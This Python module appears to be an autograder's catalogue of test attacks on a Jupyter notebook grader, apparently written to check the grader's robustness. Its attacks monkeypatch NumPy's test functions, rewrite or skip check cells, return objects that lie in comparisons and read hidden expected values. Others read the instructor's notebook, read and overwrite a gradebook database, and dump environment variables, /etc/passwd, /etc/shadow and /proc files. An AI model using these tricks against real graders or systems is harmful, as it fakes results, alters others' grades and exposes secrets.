"""Attacks on what judges and on what it looks at: replaced, lied to, or read."""

from autograder.attacks.field import Attack

TAKE_BACK_TESTING = "import importlib, numpy.testing._private.utils as u; importlib.reload(u)\n"
TAKE_BACK_TESTING += "np.testing.assert_allclose = u.assert_allclose"

JUDGES = (
    # Replacing what judges.
    Attack(
        "replaced np.testing",
        "makes every comparison of NumPy's tests pass",
        cells=(
            """
np.testing.assert_allclose = lambda *a, **k: None
np.allclose = lambda *a, **k: True
""",
        ),
        stock=True,
        undo=TAKE_BACK_TESTING,
    ),
    Attack(
        "swapped __code__",
        "replaces the code inside the function that compares, so that it stays the same object",
        cells=(
            """
kept = np.testing.assert_allclose.__code__
np.testing.assert_allclose.__code__ = (lambda *a, **k: None).__code__
""",
        ),
        stock=True,
        undo="np.testing.assert_allclose.__code__ = kept",
    ),
    Attack(
        "replaced builtins",
        "replaces abs, all, isinstance and float for everybody",
        cells=(
            """
import builtins
builtins.all = lambda *a: True
builtins.abs = lambda x: 0
builtins.float = str
""",
        ),
    ),
    Attack(
        "always true assert",
        "makes AssertionError impossible to raise",
        cells=(
            """
import builtins
class Never(BaseException):
    def __new__(cls, *a): raise SystemExit
builtins.AssertionError = Never
""",
        ),
    ),
    Attack(
        "AST transformer",
        "drops the comparisons from every cell before it is compiled",
        cells=(
            """
import ast
class Drop(ast.NodeTransformer):
    def visit_Expr(self, node):
        return ast.Pass() if 'assert_' in ast.unparse(node) else node
get_ipython().ast_transformers.append(Drop())
""",
        ),
        stock=True,
        undo="get_ipython().ast_transformers.clear()",
    ),
    Attack(
        "input transformer",
        "rewrites the text of the check cell to its points",
        cells=(
            """
def rewrite(lines):
    return ['2.0\\n'] if any('assert_' in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(rewrite)
""",
        ),
        stock=True,
        undo="get_ipython().input_transformers_cleanup.pop()",
    ),
    Attack(
        "no-op run_code",
        "has later cells do nothing, which stock nbgrader takes for full marks",
        cells=(
            """
shell = get_ipython()
async def nothing(*a, **k): return False
shell.run_code = nothing
""",
        ),
        stock=True,
        undo="del shell.run_code",
    ),
    Attack(
        "published result",
        "shows the points as the cell's result before the comparison fails; the first result counts",
        answer="""
def double(x):
    get_ipython().displayhook(2.0)
    return 0 * x
""",
        stock=True,
    ),
    Attack(
        "sys.displayhook",
        "shows full marks whatever the result is",
        cells=(
            """
import sys
hook = sys.displayhook
sys.displayhook = lambda value: hook(2.0)
""",
            "get_ipython().displayhook.compute_format_data = lambda result: ({'text/plain': '2.0'}, {})",
        ),
    ),
    Attack(
        "swallowed test",
        "changes what is expected, and the next comparison, through the frame that calls",
        answer="""
import sys
def double(x):
    names = sys._getframe(1).f_globals
    names['expected'][...] = 0
    names['np'].testing.assert_allclose = lambda *a, **k: None
    return 0 * x
""",
        stock=True,
        undo=TAKE_BACK_TESTING,
    ),
    # Lying objects.
    Attack(
        "lying array",
        "returns an array that answers every question of NumPy with yes",
        answer="""
class Yes(np.ndarray):
    def __array_function__(self, f, t, a, k): return np.ones(len(self), bool)
    def __array_ufunc__(self, f, *a, **k): return np.full(len(self), f not in (np.isnan, np.isinf))
    def __getitem__(self, key): return self
def double(x): return np.zeros(np.shape(x)).view(Yes)
""",
        stock=True,
    ),
    Attack(
        "always equal object",
        "returns something that equals everything and differs from nothing",
        answer="""
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0
    __rsub__ = __abs__ = __sub__
    def __array__(self, *a, **k): return np.zeros(5)
    def __len__(self): return 5
    def __getitem__(self, i): return self
    def __float__(self): return 2.0
def double(x): return Equal()
""",
    ),
    Attack(
        "numbers that lie",
        "returns floats whose comparisons are always true",
        answer="""
class F(float):
    def __eq__(self, o): return True
    def __le__(self, o): return True
    def __sub__(self, o): return 0.0
def double(x): return [F(v) for v in x]
""",
    ),
    Attack(
        "not a number",
        "hopes that NaN compares as equal",
        answer="def double(x): return np.full(np.shape(x), np.nan)",
    ),
    Attack(
        "object array",
        "smuggles objects inside an array",
        answer="def double(x): return np.array([type('E', (), {'__eq__': lambda s, o: True})() for _ in x])",
    ),
    Attack(
        "points as data",
        "names the variables of the check cell, hoping that they are asked for",
        cells=(
            """
points = 2.0
expected = np.zeros(5)
x = np.zeros(5)
np.testing = None
""",
        ),
        after=(
            """
expected = 0 * x
class np: pass
""",
        ),
    ),
    Attack(
        "changed arguments",
        "writes into the array that it was given so that the expected value is wrong as well",
        answer="""
def double(x):
    x[...] = 0
    return x
""",
    ),
    # Names.
    Attack(
        "another function under the name",
        "calls a right function of another exercise by this name",
        answer="""
def triple(x): return 3 * x
triple.__name__ = 'double'
double = triple
""",
    ),
    Attack(
        "no function",
        "leaves a number where the function should be",
        answer="double = 2.0",
    ),
    Attack(
        "nothing",
        "deletes the function",
        answer="del np",
        after=(
            """
double = None
del double
""",
        ),
    ),
    # Looking at what is judged.
    Attack(
        "reading the test's text",
        "finds the hidden test in the input history and copies the expected values",
        answer="""
import re, sys
def double(x):
    text = get_ipython().user_ns['In'][-1]
    if len(x) == 2:
        return eval(re.search(r', (\\[6.0.*?\\])', text)[1])
    return sys._getframe(1).f_globals['expected']
""",
        stock=True,
    ),
    Attack(
        "frame introspection",
        "looks for the expected values in the frames of its callers",
        answer="""
import sys
def double(x):
    frame = sys._getframe()
    while frame:
        for space in (frame.f_locals, frame.f_globals):
            if 'expected' in space and len(space['expected']) == len(x): return space['expected']
        frame = frame.f_back
    return 0 * x
""",
    ),
    Attack(
        "gc introspection",
        "looks for the expected values and the hidden test among all objects of the process",
        answer="""
import gc
def double(x):
    for found in gc.get_objects():
        if isinstance(found, dict) and 'expected' in found: return found['expected']
        if isinstance(found, str) and 'BEGIN HIDDEN' in found: return found
    return 0 * x
""",
    ),
    Attack(
        "reading the source",
        "reads the instructor's notebook and shows it",
        cells=(
            """
import glob
known = [f'{root}/source/doubling/doubling.ipynb' for root in ('../../..', '{course}')]
for place in ['../../../source/*/*', '{course}/source/*/*', '/**/source/doubling/*']:
    known += glob.glob(place)
for path in known:
    try: print(open(path).read())
    except OSError as error: print(error)
""",
        ),
        stock=True,
    ),
    Attack(
        "reading the reference",
        "imports the solution from the packages of the grader",
        answer="from reference.truth.batchnorm import batchnorm_forward as double",
    ),
    Attack(
        "reading the gradebook",
        "shows everybody's points",
        cells=(
            """
import sqlite3
for place in ['../../../gradebook.db', '{course}/gradebook.db']:
    try: print(sqlite3.connect(f'file:{place}?mode=ro', uri=True).execute('select * from t').fetchall())
    except Exception as error: print(error)
""",
        ),
        stock=True,
    ),
    Attack(
        "writing the gradebook",
        "gives everybody other points",
        cells=(
            """
import sqlite3
for place in ['../../../gradebook.db', '{course}/gradebook.db']:
    try:
        with sqlite3.connect(place) as base: base.execute('update t set points = 1000')
    except Exception as error: print(error)
""",
        ),
        stock=True,
    ),
    Attack(
        "looking for secrets",
        "shows environment, home, password file, other processes",
        cells=(
            """
import glob, os
print(dict(os.environ), os.listdir(os.path.expanduser('~')))
own = [f'/proc/{pid}/{what}' for pid in (1, os.getppid(), os.getpid()) for what in ('environ', 'cmdline')]
own += [*glob.glob('/proc/*/environ'), *glob.glob('/proc/*/cmdline')]
for path in ['/etc/passwd', '/etc/shadow', *own]:
    try: print(open(path).read())
    except OSError as error: print(error)
""",
        ),
    ),
)
